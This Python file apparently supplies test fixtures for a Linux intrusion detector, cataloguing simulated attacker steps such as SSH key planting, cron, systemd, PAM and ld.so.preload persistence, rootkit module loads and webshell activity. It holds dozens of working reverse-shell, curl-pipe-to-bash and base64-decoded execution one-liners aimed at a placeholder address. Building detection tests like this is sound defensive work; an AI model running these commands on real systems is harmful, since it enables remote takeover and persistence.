"""Footholds and programs of intruders, as their authors make them: several ways for each family."""

from tests.doubles.attack_steps import WEB, Step, below, said, shell, typed, wrote
from tests.doubles.host_story import Story

_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHxyz x@y"
_ADDRESS = "203.0.113.66"
_ENCODED = "YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNjYvNDQ0NCAwPiYx"


def _memory(story: Story) -> None:
    story.call("memfd_create", "/usr/bin/python3.11", user="bob")


def _module(story: Story) -> None:
    story.call("finit_module", "/tmp/loader")


def _php_upload(story: Story) -> None:
    story.write("/var/www/html/wp-content/uploads/a.php", by="/usr/sbin/php-fpm8.2", user="www-data", session=False)


HOST_ATTACKS: dict[str, tuple[Step, ...]] = {
    "SSH key added": (
        wrote("/root/.ssh/authorized_keys", by="/usr/bin/bash"),
        wrote("/home/alice/.ssh/authorized_keys2", by="/usr/bin/tee"),
        shell(f"mkdir -p /root/.ssh;echo {_KEY}>>/root/.ssh/authorized_keys"),
        shell(f"echo '{_KEY}' | tee -a ~/.ssh/authorized_keys", name="bash", **WEB),
        shell(f'cd ~/.ssh && echo "{_KEY}" >> authorized_keys'),
        typed("chattr +ia /root/.ssh/authorized_keys"),
    ),
    "cron persistence": (
        wrote("/etc/cron.d/0hourly-x", by="/usr/bin/tee"),
        wrote("/var/spool/cron/crontabs/root", by="/usr/bin/python3.11"),
        wrote("/etc/crontab", by="/tmp/rpm"),
        said("CRON[9]", f"(root) CMD (wget -q -O- http://{_ADDRESS}/x | bash > /dev/null 2>&1)"),
        said(
            "CRON[9]", f"(root) CMD (python3 -c 'x'; curl -k https://{_ADDRESS}/a -o /tmp/a; chmod 755 /tmp/a; /tmp/a)"
        ),
        said("crond[9]", "(bob) CMD (/var/tmp/.cache/upd >/dev/null 2>&1 &)"),
        said("CRON[9]", f"(root) CMD (echo {_ENCODED} | base64 -d | bash)"),
        said("CRON[9]", f"(root) CMD (bash -c 'bash -i >& /dev/tcp/{_ADDRESS}/443 0>&1')"),
        said("CRON[9]", "(root) CMD (nohup setsid /dev/shm/.x/.y &)"),
    ),
    "systemd persistence": (
        wrote("/etc/systemd/system/dbus-helper.service", by="/usr/bin/cp"),
        wrote("/home/bob/.config/systemd/user/x.timer", by="/usr/bin/bash", user="bob"),
        typed("systemd-run --on-boot=60 /opt/x"),
    ),
    "boot scripts": (
        wrote("/etc/rc.local"),
        wrote("/etc/init.d/x", by="/usr/bin/install"),
        wrote("/etc/rc.d/rc.local", by="/usr/bin/sed", old="/etc/rc.d/sedABC"),
    ),
    "shell startup files": (
        wrote("/etc/profile.d/x.sh"),
        wrote("/etc/bash.bashrc", by="/usr/bin/tee"),
        wrote("/root/.bashrc"),
        wrote("/home/alice/.zshrc", by="/usr/bin/dash", user="www-data", session=False),
        wrote("/home/alice/.config/fish/config.fish", user="alice"),
    ),
    "udev rules": (wrote("/etc/udev/rules.d/10-x.rules"), wrote("/lib/udev/rules.d/99-x.rules", by="/tmp/dpkg")),
    "at jobs": (typed("at now + 5 min"), typed("/usr/bin/at -f /tmp/x midnight", **WEB), typed("batch", user="bob")),
    "motd and other hooks": (
        wrote("/etc/update-motd.d/99-x"),
        wrote("/etc/apt/apt.conf.d/99x", by="/usr/bin/tee"),
        wrote("/etc/NetworkManager/dispatcher.d/x.sh"),
        wrote("/usr/lib/python3/dist-packages/sitecustomize.py", by="/usr/bin/cp"),
        wrote("/etc/logrotate.d/x"),
        wrote("/etc/ssh/sshrc"),
    ),
    "PAM": (
        wrote("/etc/pam.d/sshd", by="/usr/bin/sed", old="/etc/pam.d/sedABC"),
        wrote("/etc/pam.d/common-auth"),
        wrote("/lib/x86_64-linux-gnu/security/pam_unix.so", by="/usr/bin/cp"),
        wrote("/usr/lib64/security/pam_x.so", by="/usr/bin/install"),
    ),
    "XDG autostart": (
        wrote("/home/alice/.config/autostart/a.desktop", user="alice"),
        wrote("/etc/xdg/autostart/a.desktop", by="/usr/bin/cp"),
    ),
    "ld.so.preload": (
        wrote("/etc/ld.so.preload"),
        wrote("/etc/ld.so.preload", by="/tmp/dpkg"),
        shell("LD_PRELOAD=/tmp/x.so /usr/bin/su", user="bob"),
        typed("env LD_PRELOAD=/dev/shm/.x.so sshd"),
        shell("echo /usr/local/lib/x.so > /etc/ld.so.preload"),
    ),
    "kernel module": (
        _module,
        typed("insmod /tmp/rk.ko"),
        typed("/sbin/insmod /home/bob/rk/rk.ko", called="/sbin/insmod"),
        typed("insmod ./rk.ko", cwd="/dev/shm"),
        said("kernel", "rk: loading out-of-tree module taints kernel."),
        said(
            "kernel",
            "[   99.123456] rk: module verification failed: signature and/or required key missing - tainting kernel",
        ),
    ),
    "reverse shell": (
        shell(f"bash -i >& /dev/tcp/{_ADDRESS}/443 0>&1", **WEB),
        shell(f"0<&196;exec 196<>/dev/tcp/{_ADDRESS}/443; sh <&196 >&196 2>&196", name="bash"),
        shell(f"exec 5<>/dev/tcp/{_ADDRESS}/443; while read l <&5; do $l 2>&5 >&5; done", name="bash"),
        shell(f"/bin/bash -l > /dev/tcp/{_ADDRESS}/443 0<&1 2>&1", name="bash"),
        typed(f"nc -e /bin/sh {_ADDRESS} 443"),
        typed(f"ncat --ssl -nv {_ADDRESS} 443 -e /bin/bash"),
        typed(f"/tmp/nc {_ADDRESS} 443 -c bash", called="/tmp/nc"),
        typed(f"busybox nc {_ADDRESS} 443 -e /bin/sh"),
        shell(f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc {_ADDRESS} 443 >/tmp/f"),
        shell(f"mknod /tmp/p p; nc {_ADDRESS} 443 0</tmp/p | /bin/bash 1>/tmp/p"),
        typed(
            [
                "python3",
                "-c",
                f'import socket,subprocess,os;s=socket.socket();s.connect(("{_ADDRESS}",443));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])',
            ]
        ),
        typed(
            [
                "python3",
                "-c",
                f'import pty,socket;s=socket.create_connection(("{_ADDRESS}",443));[__import__("os").dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")',
            ]
        ),
        typed(
            [
                "perl",
                "-e",
                f'use Socket;$i="{_ADDRESS}";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(443,inet_aton($i)))){{open(STDIN,">&S");exec("/bin/sh -i");}}',
            ]
        ),
        typed(["php", "-r", f'$sock=fsockopen("{_ADDRESS}",443);exec("/bin/sh -i <&3 >&3 2>&3");']),
        typed(
            [
                "ruby",
                "-rsocket",
                "-e",
                f'f=TCPSocket.open("{_ADDRESS}",443).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)',
            ]
        ),
        typed(
            [
                "node",
                "-e",
                f'require("child_process");var n=require("net");var s=n.connect(443,"{_ADDRESS}");sh=cp.spawn("/bin/sh",[])',
            ]
        ),
        typed(
            [
                "lua5.4",
                "-e",
                f"local s=require('socket');t=s.tcp();t:connect('{_ADDRESS}','443');os.execute('/bin/sh -i <&3 >&3 2>&3');",
            ]
        ),
        typed(
            [
                "awk",
                f'BEGIN {{s = "/inet/tcp/0/{_ADDRESS}/443"; while(42) {{ do{{ printf "shell>" |& s; s |& getline c; if(c){{ while ((c |& getline) > 0) print $0 |& s; close(c); }} }} while(c != "exit") close(s); }}}}',
            ],
            exe="/usr/bin/gawk",
        ),
        typed(f"socat TCP:{_ADDRESS}:443 EXEC:/bin/bash,pty,stderr,setsid"),
        typed(f"socat exec:'bash -li',pty,stderr tcp:{_ADDRESS}:443"),
        shell(f"telnet {_ADDRESS} 443 | /bin/sh | telnet {_ADDRESS} 444"),
        shell(f"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect {_ADDRESS}:443 > /tmp/s"),
    ),
    "download and run": (
        shell(f"curl -fsSL http://{_ADDRESS}/x.sh | bash"),
        shell(f"(curl -s http://{_ADDRESS}/x||wget -qO- http://{_ADDRESS}/x)|sh", **WEB),
        shell(f"wget -O - http://{_ADDRESS}/x | /bin/sh", name="bash"),
        shell(f'bash -c "$(curl -fsSL http://{_ADDRESS}/x)"', name="bash"),
        shell(f"source <(curl -s http://{_ADDRESS}/x)", name="bash"),
        shell(f"curl http://{_ADDRESS}/x -o /tmp/x;chmod +x /tmp/x;/tmp/x"),
        shell(f"wget http://{_ADDRESS}/x -O /dev/shm/x && chmod 0755 /dev/shm/x && /dev/shm/x &", **WEB),
        shell(f"cd /tmp; wget {_ADDRESS}/bins.sh; chmod 777 *; sh bins.sh"),
        shell(f"curl -s {_ADDRESS}/x.py | python3 -"),
        shell(f"curl -s {_ADDRESS}/x | sudo -E bash -s -- -y", name="bash"),
        shell(f"wget -q {_ADDRESS}/x -P /tmp/ && bash /tmp/x"),
        typed(["python3", "-c", f"import requests;exec(requests.get('http://{_ADDRESS}/x').text)"]),
        typed(["perl", "-MLWP::Simple", "-e", f"eval get('http://{_ADDRESS}/x')"]),
        shell(f"busybox wget -qO- http://{_ADDRESS}/x|busybox sh"),
    ),
    "base64 pipe": (
        shell(f"echo {_ENCODED} | base64 -d | bash"),
        shell(f"echo {_ENCODED}|base64 --decode|sh", **WEB),
        shell(f"base64 -di<<<{_ENCODED}|bash", name="bash"),
        shell(f'bash -c "$(echo {_ENCODED}|base64 -d)"', name="bash"),
        shell(f"eval $(echo {_ENCODED} | base64 -d)", name="bash"),
        shell("echo 6964 | xxd -r -p | sh"),
        shell(f"echo {_ENCODED} | openssl base64 -d | /bin/bash"),
        shell(f"echo {_ENCODED} | base64 -d | gunzip | sh"),
        typed(["python3", "-c", f"import base64;exec(base64.b64decode('{_ENCODED}'))"]),
        shell(f"bash -c {{echo,{_ENCODED}}}|{{base64,-d}}|{{bash,-i}}", name="bash", **WEB),
        typed(["perl", "-MMIME::Base64", "-e", f"eval decode_base64('{_ENCODED}')"]),
        typed(["php", "-r", f"eval(base64_decode('{_ENCODED}'));"]),
    ),
    "run from /tmp or /dev/shm": (
        typed("/tmp/x", called="/tmp/x"),
        typed("./kworker", called="/dev/shm/kworker", exe="/dev/shm/kworker"),
        typed("/var/tmp/.ICE/x", called="/var/tmp/.ICE/x", **WEB),
        typed(["/bin/bash", "/tmp/x.sh"], called="/tmp/x.sh", exe="/usr/bin/bash"),
        typed("bash /dev/shm/x.sh"),
    ),
    "memfd": (
        typed("x", exe="/memfd: (deleted)", called="/proc/self/fd/3"),
        typed("x", exe="/memfd:kernel (deleted)", called="/proc/4242/fd/4", **WEB),
        _memory,
    ),
    "webshell": (
        below("/usr/sbin/apache2 -k start", ["sh", "-c", "id"], user="www-data", session=False),
        below("/usr/sbin/php-fpm8.2", ["sh", "-c", "cat /etc/passwd;echo"], user="www-data", session=False),
        below("/usr/sbin/nginx", ["/bin/dash", "-c", "uname -a"], user="www-data", session=False),
        typed("whoami", **WEB),
        _php_upload,
        wrote("/var/www/html/x.jsp", by="/usr/lib/jvm/java-17-openjdk-amd64/bin/java", session=False),
        below("/usr/lib/postgresql/15/bin/postgres", ["sh", "-c", "id;cp x y"], user="postgres", session=False),
        below("/usr/sbin/mysqld", ["sh", "-c", "/bin/bash"], user="mysql", session=False),
    ),
    "tools built by a web server": (
        typed("gcc -o /tmp/e /tmp/e.c", **WEB),
        typed("/usr/bin/make", **WEB),
        typed("cc exploit.c", exe="/usr/bin/x86_64-linux-gnu-gcc-12", **WEB),
        typed("apt-get install -y nmap", **WEB),
    ),
}
